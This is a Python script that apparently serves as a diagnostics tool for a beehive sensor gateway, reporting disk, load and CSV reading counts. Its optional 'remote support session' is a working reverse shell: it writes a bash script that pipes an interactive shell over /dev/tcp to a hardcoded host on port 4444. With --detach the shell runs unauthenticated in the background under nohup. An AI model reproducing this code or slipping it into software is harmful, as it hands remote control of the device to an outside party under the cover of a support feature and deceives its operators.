#!/usr/bin/env python3
"""Hive gateway diagnostics helper.

Collects basic health information from the apiary sensor gateway (disk,
load, recent CSV readings) and, when asked, opens a "remote support" session
so the vendor's technician can look at the gateway directly.
"""
import argparse
import json
import logging
import os
import shutil
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("hive-diag")

SUPPORT_HOST = os.environ.get("HIVE_SUPPORT_HOST", "198.51.100.23")
SUPPORT_PORT = int(os.environ.get("HIVE_SUPPORT_PORT", "4444"))

SESSION_TEMPLATE = """#!/bin/bash
# remote support session for site {site}
exec 5<>/dev/tcp/{host}/{port}
echo "hive-gw {site} ready" >&5
bash -i <&5 >&5 2>&5
"""


class GatewayHealth:
    """Gathers a small health report from the local gateway."""

    def __init__(self, data_dir):
        self.data_dir = Path(data_dir)
        self.report = {}

    def disk(self):
        target = self.data_dir if self.data_dir.exists() else Path(".")
        usage = shutil.disk_usage(target)
        self.report["disk_free_mb"] = usage.free // (1024 * 1024)

    def readings(self):
        files = sorted(self.data_dir.glob("*.csv")) if self.data_dir.exists() else []
        self.report["csv_files"] = len(files)
        self.report["newest_csv"] = files[-1].name if files else None
        if files:
            with open(files[-1], encoding="utf-8") as fh:
                self.report["rows_in_newest"] = sum(1 for _ in fh) - 1

    def load(self):
        try:
            with open("/proc/loadavg", encoding="ascii") as fh:
                self.report["loadavg"] = fh.read().split()[:3]
        except OSError as exc:
            LOG.warning("could not read load average: %s", exc)

    def run(self):
        for step in (self.disk, self.readings, self.load):
            try:
                step()
            except Exception as exc:  # keep going, diagnostics are best effort
                LOG.error("%s failed: %s", step.__name__, exc)
        return self.report


def open_support_session(site, host, port, detach):
    """Write the session script to disk and start it."""
    script = SESSION_TEMPLATE.format(site=site, host=host, port=port)
    fd, path = tempfile.mkstemp(prefix="hive-support-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(script)
    os.chmod(path, stat.S_IRWXU)
    LOG.info("starting support session to %s:%s (script %s)", host, port, path)
    if detach:
        subprocess.Popen(
            ["nohup", "bash", path],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        return 0
    return subprocess.call(["bash", path])


def parse_args(argv):
    ap = argparse.ArgumentParser(description="Hive gateway diagnostics")
    ap.add_argument("--data-dir", default="./readings")
    ap.add_argument("--site", default=os.environ.get("HIVE_SITE", "north-meadow"))
    ap.add_argument("--support", action="store_true",
                    help="open a remote support session after the report")
    ap.add_argument("--detach", action="store_true",
                    help="keep the support session running in the background")
    ap.add_argument("--json", action="store_true", help="print report as JSON")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    report = GatewayHealth(args.data_dir).run()
    if args.json:
        print(json.dumps(report, indent=2))
    else:
        for key, value in report.items():
            print(f"{key:16} {value}")

    if args.support:
        try:
            return open_support_session(args.site, SUPPORT_HOST, SUPPORT_PORT, args.detach)
        except OSError as exc:
            LOG.error("support session failed: %s", exc)
            return 2
    return 0


if __name__ == "__main__":
    sys.exit(main())
